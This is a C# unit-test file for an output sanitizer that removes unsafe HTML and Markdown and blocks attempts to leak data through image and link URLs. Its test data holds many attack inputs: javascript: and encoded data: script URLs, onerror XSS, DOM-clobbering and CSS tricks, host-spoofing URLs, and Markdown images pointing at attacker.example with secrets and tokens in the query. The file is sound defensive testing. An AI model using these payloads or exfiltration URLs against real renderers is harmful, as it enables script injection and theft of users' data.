using Microsoft.Extensions.Options;

namespace SecureKernel.Tests.Output;

[TestClass]
public sealed class OutputSanitizerTests
{
    private static readonly OutputSanitizer s_sanitizer = new(new OutputSanitizerOptions { AllowedHosts = { "trusted.example", "bücher.example" } });

    private static bool Has(SanitizedOutput r, string rule) => r.Findings.Any(f => f.Detail == rule);

    private static void AssertSafe(string html)
    {
        var problems = IndependentDomCheck.Problems(html, "trusted.example", "xn--bcher-kva.example");
        Assert.IsEmpty(problems, string.Join(", ", problems) + " :: " + html);
        Assert.IsEmpty(s_sanitizer.Verify(html), html);
    }

    [TestMethod]
    public void RelativeUrlWithColonInFirstSegment_Removed()
    {
        // Found by the FsCheck property: "ᡞjavascript:" has no ASCII scheme, so it passed as a relative URL, although a
        // colon in the first segment is not a valid relative reference (RFC 3986 4.2) and reads as a scheme to lenient parsers.
        var md = s_sanitizer.SanitizeMarkdown("[a](\u185E&#106;avascript:alert(1)) and ![i](\u00E9data:image/png,x)");
        Assert.DoesNotContain("javascript", md.Html);
        Assert.DoesNotContain("data:", md.Html);
        Assert.IsTrue(Has(md, "url.relative-colon"));
        AssertSafe(md.Html);

        var html = s_sanitizer.SanitizeHtml("<a href=\"\u185Ejavascript:alert(1)\">x</a>");
        Assert.DoesNotContain("javascript", html.Html);
        AssertSafe(html.Html);

        // Relative URLs with a colon after the first segment stay.
        Assert.Contains("href=\"docs/a:b\"", s_sanitizer.SanitizeMarkdown("[a](docs/a:b)").Html);
    }

    [TestMethod]
    public void Null_Throws()
    {
        Assert.ThrowsExactly<ArgumentNullException>(() => s_sanitizer.SanitizeHtml(null!));
        Assert.ThrowsExactly<ArgumentNullException>(() => s_sanitizer.SanitizeMarkdown(null!));
        Assert.ThrowsExactly<ArgumentNullException>(() => new OutputSanitizer(null!));
    }

    [TestMethod]
    public void TooLong_ThrowsClearErrorWithoutContent()
    {
        var small = new OutputSanitizer(new OutputSanitizerOptions { MaxInputChars = 10 });
        var ex = Assert.ThrowsExactly<ArgumentException>(() => small.SanitizeMarkdown("secret-value-xyz"));
        StringAssert.Contains(ex.Message, "MaxInputChars");
        Assert.DoesNotContain("secret-value", ex.Message);
        Assert.ThrowsExactly<ArgumentException>(() => small.SanitizeHtml("<b>0123456789</b>"));
    }

    [TestMethod]
    public void Empty_GivesEmpty()
    {
        Assert.AreEqual("", s_sanitizer.SanitizeHtml("").Html);
        var md = s_sanitizer.SanitizeMarkdown("");
        Assert.AreEqual("", md.Markdown);
        Assert.AreEqual("", md.Html.Trim());
        Assert.IsFalse(md.Changed);
    }

    [TestMethod]
    public void Options_Validation_ListsEveryError()
    {
        var options = new OutputSanitizerOptions
        {
            AllowedHosts = { "https://x.example/path", "ok.example", "" },
            AllowedSchemes = { "javascript", "1bad" },
            MaxImagesPerMessage = -1,
            MaxInputChars = 0,
            ImagePolicy = (OutputImagePolicy)42,
            LinkPolicy = (OutputLinkPolicy)42,
        };
        var errors = options.Validate();
        Assert.HasCount(8, errors, string.Join("\n", errors));
        Assert.IsTrue(errors.Any(e => e.StartsWith("AllowedHosts[0]")));
        Assert.IsTrue(errors.Any(e => e.StartsWith("AllowedHosts[2]")));
        Assert.IsTrue(errors.Any(e => e.StartsWith("AllowedSchemes[3]") && e.Contains("javascript")));
        Assert.IsTrue(errors.Any(e => e.StartsWith("AllowedSchemes[4]")));
        var ex = Assert.ThrowsExactly<OptionsValidationException>(() => new OutputSanitizer(options));
        Assert.HasCount(8, ex.Failures);
        Assert.IsEmpty(new OutputSanitizerOptions().Validate());
    }

    [TestMethod]
    public void AllowedHost_ImageAndLinkKept_SubdomainsToo()
    {
        var r = s_sanitizer.SanitizeMarkdown("![a](https://trusted.example/a.png) ![b](https://cdn.trusted.example/b.png) [c](https://docs.trusted.example/x?y=1#z)");
        StringAssert.Contains(r.Html, "src=\"https://trusted.example/a.png\"");
        StringAssert.Contains(r.Html, "src=\"https://cdn.trusted.example/b.png\"");
        StringAssert.Contains(r.Html, "href=\"https://docs.trusted.example/x?y=1#z\"");
        Assert.AreEqual("![a](https://trusted.example/a.png) ![b](https://cdn.trusted.example/b.png) [c](https://docs.trusted.example/x?y=1#z)", r.Markdown);
        Assert.IsFalse(r.Changed);
        AssertSafe(r.Html);
    }

    [TestMethod]
    public void SubdomainsOff_OnlyExactHost()
    {
        var exact = new OutputSanitizer(new OutputSanitizerOptions { AllowedHosts = { "trusted.example" }, AllowSubdomains = false });
        var r = exact.SanitizeMarkdown("![a](https://trusted.example/a.png) ![b](https://cdn.trusted.example/b.png)");
        StringAssert.Contains(r.Html, "src=\"https://trusted.example/a.png\"");
        Assert.DoesNotContain("src=\"https://cdn.", r.Html);
        Assert.IsTrue(Has(r, "url.image-host-not-allowed"));
    }

    [TestMethod]
    [DataRow("https://trusted.example@attacker.example/p.png", DisplayName = "userinfo")]
    [DataRow("https://trusted.example.attacker.example/p.png", DisplayName = "suffix trick")]
    [DataRow("https://attackertrusted.example/p.png", DisplayName = "no dot boundary")]
    [DataRow("//attacker.example/p.png", DisplayName = "protocol-relative")]
    [DataRow("///attacker.example/p.png", DisplayName = "triple slash")]
    [DataRow("https:attacker.example/p.png", DisplayName = "no slashes")]
    [DataRow("https:\\\\attacker.example\\p.png", DisplayName = "backslashes")]
    [DataRow("https://attacker%2Eexample/p.png", DisplayName = "percent-encoded dot")]
    [DataRow("https://tru\u0455ted.example/p.png", DisplayName = "homoglyph host")]
    [DataRow("https://trusted.example\u200B.attacker.example/p.png", DisplayName = "zero-width")]
    [DataRow("  https://attacker.example/p.png  ", DisplayName = "whitespace")]
    [DataRow("ht\ttps://attacker.example/p.png", DisplayName = "tab in scheme")]
    public void HostTricks_ImageNeverLoads(string url)
    {
        var html = s_sanitizer.SanitizeHtml($"<img src=\"{url}\">");
        AssertSafe(html.Html);
        Assert.DoesNotContain("src=", html.Html);
        var md = s_sanitizer.SanitizeMarkdown($"![x](<{url.Trim()}>)");
        AssertSafe(md.Html);
        Assert.DoesNotContain("<img", md.Html);
    }

    [TestMethod]
    public void IdnAllowList_MatchesPunycode()
    {
        var r = s_sanitizer.SanitizeHtml("<img src=\"https://xn--bcher-kva.example/a.png\"><img src=\"https://bücher.example/b.png\">");
        Assert.AreEqual(2, r.Html.Split("<img").Length - 1, r.Html);
        StringAssert.Contains(r.Html, "https://xn--bcher-kva.example/b.png");
    }

    [TestMethod]
    [DataRow("javascript:alert(1)")]
    [DataRow("JaVaScRiPt:alert(1)")]
    [DataRow("java&#x09;script:alert(1)")]
    [DataRow("&#106;avascript:alert(1)")]
    [DataRow("vbscript:msgbox(1)")]
    [DataRow("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==")]
    [DataRow("  javascript:alert(1)")]
    public void ScriptUrls_Removed(string url)
    {
        var html = s_sanitizer.SanitizeHtml($"<a href=\"{url}\">x</a>");
        AssertSafe(html.Html);
        var md = s_sanitizer.SanitizeMarkdown($"[x](<{url}>) <{url}>");
        AssertSafe(md.Html);
        Assert.DoesNotContain("href", md.Html);
        Assert.DoesNotContain("href", html.Html);
    }

    [TestMethod]
    [DataRow("https://trusted.example/p?k=sk-proj-AbCdEfGhIjKlMnOpQrStUvWx", DisplayName = "OpenAI key")]
    [DataRow("https://trusted.example/p?k=ghp_0123456789abcdefghijABCDEFGHIJ012345", DisplayName = "GitHub token")]
    [DataRow("https://trusted.example/AKIAIOSFODNN7EXAMPL3/x.png", DisplayName = "AWS key in path")]
    [DataRow("https://trusted.example/p?t=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.sig", DisplayName = "JWT")]
    [DataRow("https://trusted.example/p?t=%73k-proj-AbCdEfGhIjKlMnOpQrStUvWx", DisplayName = "percent-encoded key")]
    [DataRow("https://user:pass@trusted.example/p.png", DisplayName = "credentials")]
    [DataRow("https://trusted.example/r?u=https%253A%252F%252Fattacker.example%252Fx", DisplayName = "double-encoded open redirect")]
    public void SecretsToAllowedHosts_Removed(string url)
    {
        var r = s_sanitizer.SanitizeMarkdown($"![x]({url}) [y]({url})");
        Assert.DoesNotContain("<img", r.Html);
        Assert.DoesNotContain("href", r.Html);
        Assert.IsTrue(r.Findings.Any(f => f.Kind == FindingKind.Exfiltration && f.Detail.StartsWith("url.data-carrying.")), string.Join(",", r.Findings.Select(f => f.Detail)));
        Assert.DoesNotContain("trusted.example/", r.Markdown!);
    }

    [TestMethod]
    public void HighEntropyToAllowedHost_Kept_ButToOtherHost_RemovedEntirely()
    {
        const string hash = "Qm9vbGVhbkZsYWdBbmRNb3JlRGF0YTEyMzQ1Njc4OQ";
        var allowed = s_sanitizer.SanitizeMarkdown($"![x](https://cdn.trusted.example/{hash}.png)");
        StringAssert.Contains(allowed.Html, "<img");
        var other = s_sanitizer.SanitizeMarkdown($"[x](https://attacker.example/?d={hash}) [y](https://attacker.example/?to=bob@corp.example) [z](https://attacker.example/4111111111111111)");
        Assert.DoesNotContain("attacker.example", other.Markdown!);
        Assert.DoesNotContain("attacker.example", other.Html);
        Assert.IsTrue(Has(other, "url.data-carrying.high-entropy"));
        Assert.IsTrue(Has(other, "url.data-carrying.email"));
        Assert.IsTrue(Has(other, "url.data-carrying.digit-run"));
    }

    [TestMethod]
    public void SensitiveDataInspector_CanMarkCanaryOnAllowedHost()
    {
        var sanitizer = new OutputSanitizer(new OutputSanitizerOptions
        {
            AllowedHosts = { "trusted.example" },
            SensitiveDataInspector = url => url.Contains("CANARY-7f3a", StringComparison.Ordinal),
        });
        var r = sanitizer.SanitizeMarkdown("![x](https://trusted.example/p.png?c=CANARY%2D7f3a) ![ok](https://trusted.example/ok.png)");
        Assert.AreEqual(1, r.Html.Split("<img").Length - 1, r.Html);
        Assert.IsTrue(Has(r, "url.data-carrying.sensitive-inspector"));
        Assert.DoesNotContain("CANARY", r.Markdown!);

        var throwing = new OutputSanitizer(new OutputSanitizerOptions { AllowedHosts = { "trusted.example" }, SensitiveDataInspector = _ => throw new InvalidOperationException() });
        var t = throwing.SanitizeMarkdown("![x](https://trusted.example/p.png)");
        Assert.DoesNotContain("<img", t.Html);
        Assert.IsTrue(Has(t, "url.data-carrying.sensitive-inspector-failed"));
    }

    [TestMethod]
    public void NonAllowedLink_NeutralizedToCodeText_WithFullUrl()
    {
        var r = s_sanitizer.SanitizeMarkdown("Read [the docs](https://other.example/guide?page=2) now.");
        Assert.AreEqual("Read the docs (`https://other.example/guide?page=2`) now.", r.Markdown);
        StringAssert.Contains(r.Html, "the docs (<code>https://other.example/guide?page=2</code>)");
        Assert.DoesNotContain("href", r.Html);
        Assert.IsTrue(Has(r, "url.link-host-not-allowed.neutralized"));

        var h = s_sanitizer.SanitizeHtml("<p>Read <a href=\"https://other.example/guide?page=2\">the docs</a></p>");
        StringAssert.Contains(h.Html, "the docs (<code>https://other.example/guide?page=2</code>)");
        AssertSafe(h.Html);
    }

    [TestMethod]
    public void StripQueryPolicy_KeepsOriginOnly()
    {
        var sanitizer = new OutputSanitizer(new OutputSanitizerOptions { LinkPolicy = OutputLinkPolicy.StripQuery });
        var r = sanitizer.SanitizeMarkdown("[docs](https://other.example/guide?page=2#top)");
        Assert.AreEqual("[docs](<https://other.example/guide>)", r.Markdown);
        StringAssert.Contains(r.Html, "href=\"https://other.example/guide\"");
        Assert.IsTrue(Has(r, "url.link-host-not-allowed.query-stripped"));
    }

    [TestMethod]
    public void ImagePolicyRemove_LeavesNothing()
    {
        var sanitizer = new OutputSanitizer(new OutputSanitizerOptions { ImagePolicy = OutputImagePolicy.Remove });
        var r = sanitizer.SanitizeMarkdown("a ![x](https://attacker.example/p.png) b");
        Assert.AreEqual("a  b", r.Markdown);
        var h = sanitizer.SanitizeHtml("a <img src=\"https://attacker.example/p.png\"> b");
        Assert.AreEqual("a  b", h.Html);
    }

    [TestMethod]
    public void ImageCap_Enforced()
    {
        var sanitizer = new OutputSanitizer(new OutputSanitizerOptions { AllowedHosts = { "trusted.example" }, MaxImagesPerMessage = 2 });
        string md = string.Concat(Enumerable.Range(0, 5).Select(i => $"![{i}](https://trusted.example/{i}.png) "));
        var r = sanitizer.SanitizeMarkdown(md);
        Assert.AreEqual(2, r.Html.Split("<img").Length - 1, r.Html);
        Assert.IsTrue(Has(r, "image.cap-exceeded"));
        var h = sanitizer.SanitizeHtml(string.Concat(Enumerable.Range(0, 5).Select(i => $"<img src=\"https://trusted.example/{i}.png\">")));
        Assert.AreEqual(2, h.Html.Split("<img").Length - 1, h.Html);
    }

    [TestMethod]
    public void SafeContent_Survives()
    {
        const string md = "# Title\n\nSome **bold**, *italic*, ~~gone~~ and `inline <script>alert(1)</script>`.\n\n" +
            "```html\n<img src=x onerror=alert(1)>\n![x](https://attacker.example/?d=SECRET)\n```\n\n" +
            "- one\n- two [link](https://trusted.example/docs)\n\n1. first\n\n> quoted\n\n| h1 | h2 |\n|----|---:|\n| a | 1 |\n\nText[^1]\n\n[^1]: A footnote.\n";
        var r = s_sanitizer.SanitizeMarkdown(md);
        Assert.AreEqual(md, r.Markdown, "nothing to change in safe Markdown");
        Assert.IsFalse(r.Changed);
        StringAssert.Contains(r.Html, "<h1>Title</h1>");
        StringAssert.Contains(r.Html, "<strong>bold</strong>");
        StringAssert.Contains(r.Html, "<del>gone</del>");
        StringAssert.Contains(r.Html, "&lt;img src=x onerror=alert(1)&gt;");
        StringAssert.Contains(r.Html, "![x](https://attacker.example/?d=SECRET)");
        StringAssert.Contains(r.Html, "<code>inline &lt;script&gt;alert(1)&lt;/script&gt;</code>");
        StringAssert.Contains(r.Html, "<a href=\"https://trusted.example/docs\"");
        StringAssert.Contains(r.Html, "<table>");
        StringAssert.Contains(r.Html, "<blockquote>");
        StringAssert.Contains(r.Html, "A footnote.");
        StringAssert.Contains(r.Html, "href=\"#fn:1\"");
        AssertSafe(r.Html);
    }

    [TestMethod]
    public void MarkdownFeatures_RenderedWithoutIdsClassesOrUncheckedUrls()
    {
        const string md = "## H *em* ~~del~~ ~sub~ ^sup^ ++ins++ ==mark==\n\n3. three\n4. four\n\n- loose\n\n- list\n\n" +
            "```js\nfenced <i> & \"q\"\n```\n\nhard  \nbreak &copy;\n\n| l | c | r |\n|:--|:-:|--:|\n| 1 | 2 | [x](https://trusted.example/x \"t&\") |\n\n" +
            "![a *b*](https://trusted.example/i.png \"t\") <user@trusted.example> https://trusted.example/bare [rel](docs/a) [~](https://trusted.example/a~b)[^n]\n\n[^n]: Note.\n";
        var r = s_sanitizer.SanitizeMarkdown(md);
        foreach (string expected in new[]
        {
            "<h2>H <em>em</em> <del>del</del> <sub>sub</sub> <sup>sup</sup> <ins>ins</ins> <mark>mark</mark></h2>", "<ol start=\"3\">",
            "<li>\n<p>loose</p>\n</li>", "<pre><code>fenced &lt;i&gt; &amp; &quot;q&quot;\n</code></pre>", "hard<br />\nbreak ©",
            "<th style=\"text-align: left;\">l</th>", "<td style=\"text-align: right;\"><a href=\"https://trusted.example/x\" title=\"t&amp;\" rel=\"nofollow noopener noreferrer\">x</a></td>",
            "<img src=\"https://trusted.example/i.png\" alt=\"a b\" title=\"t\" referrerpolicy=\"no-referrer\" />",
            "<a href=\"mailto:user@trusted.example\" rel=\"nofollow noopener noreferrer\">mailto:user@trusted.example</a>", "<a href=\"docs/a\">rel</a>",
            "<a href=\"https://trusted.example/a~b\" rel=\"nofollow noopener noreferrer\">~</a>", "<a href=\"#fn:1\"><sup>1</sup></a>", "<p>Note.<a href=\"#fnref:1\">\u21A9</a></p>",
        })
        {
            StringAssert.Contains(r.Html, expected);
        }

        Assert.DoesNotContain(" id=", r.Html);
        Assert.DoesNotContain(" class=", r.Html);
        Assert.IsEmpty(r.Findings, string.Join(", ", r.Findings.Select(f => f.Detail)));
        AssertSafe(r.Html);
    }

    [TestMethod]
    public void MarkdownRawHtmlInImageAlt_EscapedInBothOutputs()
    {
        // The rewriter descends into image descriptions, so the raw HTML is escaped in the Markdown too (more nestings:
        // MarkdownNestingTests).
        var r = s_sanitizer.SanitizeMarkdown("![<img src=x onerror=alert(1)>](https://trusted.example/i.png)");
        StringAssert.Contains(r.Html, "src=\"https://trusted.example/i.png\"");
        Assert.AreEqual(1, r.Html.Split("<img").Length - 1, r.Html);
        Assert.DoesNotContain("<img", r.Markdown!);
        Assert.IsTrue(Has(r, "markdown.raw-html-escaped"));
        AssertSafe(r.Html);
    }

    [TestMethod]
    public void HtmlHardening_ClobberingFormsCssMetaBase()
    {
        const string html = "<img name=getElementById src=\"/a.png\"><p id=cookie>x</p><form action=\"https://trusted.example/\"><input name=q><button>go</button></form>" +
            "<div style=\"color:red;background:url(https://trusted.example/x.png)\">c</div><meta http-equiv=refresh content=\"0;url=https://trusted.example\"><base href=\"https://attacker.example/\">" +
            "<svg><script>alert(1)</script></svg><iframe src=\"https://trusted.example\"></iframe><span style=\"width:expression(alert(1))\">e</span>";
        var r = s_sanitizer.SanitizeHtml(html);
        AssertSafe(r.Html);
        Assert.DoesNotContain("name=", r.Html);
        Assert.DoesNotContain("id=", r.Html);
        Assert.DoesNotContain("url(", r.Html);
        Assert.DoesNotContain("expression", r.Html);
        StringAssert.Contains(r.Html, "color:");
        Assert.IsTrue(Has(r, "html.clobbering-attribute-removed"));
        Assert.IsTrue(Has(r, "html.tag-removed"));
        Assert.IsTrue(r.Findings.All(f => f.Kind is FindingKind.UnsafeMarkup or FindingKind.Exfiltration));
    }

    [TestMethod]
    public void Findings_NeverQuoteContent()
    {
        var r = s_sanitizer.SanitizeMarkdown("[a](https://attacker.example/?d=SECRET123) <img src=x onerror=alert(1)> ![b](https://trusted.example/sk-proj-AbCdEfGhIjKlMnOpQrStUvWx)");
        Assert.IsNotEmpty(r.Findings);
        foreach (var f in r.Findings)
        {
            Assert.DoesNotContain("SECRET", f.Detail);
            Assert.DoesNotContain("attacker", f.Detail);
            Assert.DoesNotContain("sk-proj", f.Detail);
            Assert.AreEqual("output-sanitizer", f.Detector);
        }
    }

    [TestMethod]
    public void RawHtmlInMarkdown_EscapedInBothOutputs_AndContentBehindItChecked()
    {
        var r = s_sanitizer.SanitizeMarkdown("<div>\n![x](https://attacker.example/p.png?d=SECRET123)\n</div>");
        Assert.DoesNotContain("<div", r.Markdown!);
        Assert.DoesNotContain("](https://attacker", r.Markdown!);
        Assert.IsTrue(Has(r, "markdown.raw-html-escaped"));
        AssertSafe(r.Html);
        AssertSafe(Markdig.Markdown.ToHtml(r.Markdown!));
    }

    [TestMethod]
    public void Verifier_FlagsExecutableAndEgress()
    {
        Assert.IsNotEmpty(s_sanitizer.Verify("<img src=x onerror=alert(1)>"));
        Assert.IsNotEmpty(s_sanitizer.Verify("<a href=\"java\tscript:alert(1)\">x</a>"));
        Assert.IsNotEmpty(s_sanitizer.Verify("<img src=\"https://attacker.example/p.png\">"));
        Assert.IsNotEmpty(s_sanitizer.Verify("<div style=\"background:u\\72l(https://attacker.example/)\">x</div>"));
        Assert.IsNotEmpty(s_sanitizer.Verify("<meta http-equiv=refresh content=0>"));
        Assert.IsNotEmpty(s_sanitizer.Verify("<p id=cookie>x</p>"));
        Assert.IsEmpty(s_sanitizer.Verify("<p><a href=\"https://trusted.example/\">ok</a> <img src=\"https://trusted.example/a.png\"></p>"));
    }

    [TestMethod]
    public void MalformedAndDeeplyNested_DoNotCrash()
    {
        string[] inputs =
        [
            new string('<', 50_000), string.Concat(Enumerable.Repeat("<div>", 20_000)), string.Concat(Enumerable.Repeat("> ", 5_000)) + "x",
            new string('[', 50_000) + new string(']', 50_000), string.Concat(Enumerable.Repeat("![", 10_000)), "\uD800\uDC00\uD800 <a href=\"\uDFFF\">x</a>",
            string.Concat(Enumerable.Repeat("*a ", 30_000)), "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>", "\0\0<b>\0</b>",
        ];
        foreach (string input in inputs)
        {
            var h = s_sanitizer.SanitizeHtml(input);
            AssertSafe(h.Html);
            var m = s_sanitizer.SanitizeMarkdown(input);
            AssertSafe(m.Html);
        }
    }

    [TestMethod]
    public void Huge_WithinLimit_Works()
    {
        string chunk = "Paragraph with [a link](https://trusted.example/x) and ![img](https://attacker.example/p.png?d=1) and `code`.\n\n";
        string md = string.Concat(Enumerable.Repeat(chunk, 5_000));
        var r = s_sanitizer.SanitizeMarkdown(md);
        Assert.DoesNotContain("](https://attacker", r.Markdown!);
        Assert.AreEqual(5_000, r.Html.Split("href=\"https://trusted.example/x\"").Length - 1);
    }

    [TestMethod]
    public void ThreadSafe_SameResultsInParallel()
    {
        string[] inputs = Enumerable.Range(0, 40).Select(i => i % 2 == 0
            ? $"[l{i}](https://attacker.example/?d={i}) ![i](https://trusted.example/{i}.png) <b onclick=x>{i}</b>"
            : $"<a href=\"https://trusted.example/{i}\" name=x>t</a><img src=\"https://attacker.example/{i}.png\">").ToArray();
        var expected = inputs.Select(s => s_sanitizer.SanitizeMarkdown(s)).Select(r => (r.Html, r.Markdown, string.Join(",", r.Findings.Select(f => f.Detail)))).ToArray();
        var actual = new (string, string?, string)[inputs.Length];
        Parallel.For(0, inputs.Length * 5, new ParallelOptions { MaxDegreeOfParallelism = 4 }, k =>
        {
            int i = k % inputs.Length;
            var r = s_sanitizer.SanitizeMarkdown(inputs[i]);
            var v = (r.Html, r.Markdown, string.Join(",", r.Findings.Select(f => f.Detail)));
            Assert.AreEqual(expected[i], v);
            actual[i] = v;
        });
        CollectionAssert.AreEqual(expected, actual);
    }
}
